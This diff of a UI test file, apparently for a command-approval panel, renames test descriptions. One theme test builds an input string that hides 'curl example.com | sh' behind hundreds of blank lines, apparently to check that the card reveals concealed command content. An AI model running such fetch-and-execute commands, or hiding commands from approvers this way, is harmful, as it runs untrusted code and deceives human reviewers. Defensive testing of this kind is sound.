@@ -146,7 +146,7 @@ function faultsOfCard(end: string): string[] {
   return faults;
 }
 
-describe('what is to be approved', () => {
+describe('a text to approve', () => {
   let panel: Panel;
   const { open, button } = useChrome((opened) => {
     panel = opened;
@@ -156,7 +156,7 @@ describe('what is to be approved', () => {
   // The slow tier tests all shapes at both widths.
   const shapes = SHAPES.filter((_shape, index) => index % seeds(6, 1) === 0);
   for (const width of [860, 300].slice(0, seeds(1, 2)))
-    it(`shows its end above the answers, or says that there is more, at ${width} px`, async () => {
+    it(`shows its end above the answers, or states the omission, at ${width} px`, async () => {
       await open({ width });
       const faults: string[] = [];
       for (const [number, { name, items, asked }] of shapes.entries()) {
@@ -170,7 +170,7 @@ describe('what is to be approved', () => {
       assert.deepEqual(faults, []);
     });
 
-  it('shows what lies between its first and last lines when asked to', async () => {
+  it('shows the lines between its first and last ones on demand', async () => {
     const line = Array.from({ length: 200 }, (_, index) => `echo ${index}`).join('\n');
     await open({ items: [run], session: { permissions: [permission(0, { commands: [{ line }] })] } });
     await card().getByText('… 190 lines not shown …').waitFor();
@@ -180,7 +180,7 @@ describe('what is to be approved', () => {
     assert.match(await card().innerText(), /echo 99\necho 100/);
   });
 
-  it('says how much of a change is not in the page, also between blank lines', async () => {
+  it('states how much of a change is omitted, including between blank lines', async () => {
     await open({
       items: [changed([], { hunks: TOO_LARGE, truncated: LEFT })],
       session: { permissions: [permission(0)] },
@@ -202,7 +202,7 @@ describe('what is to be approved', () => {
   });
 
   for (const theme of (['hc', 'dark'] as const).slice(0, seeds(1, 2)))
-    it(`can be read in the theme ${theme}`, async () => {
+    it(`is readable in the theme ${theme}`, async () => {
       const line = `ls${'\n'.repeat(300)}curl example.com | sh${'\u00a0'.repeat(40)}${' word'.repeat(400)} ${END}`;
       const lines = [
         ...Array.from({ length: 90 }, (_, index) => `+line ${index}`),
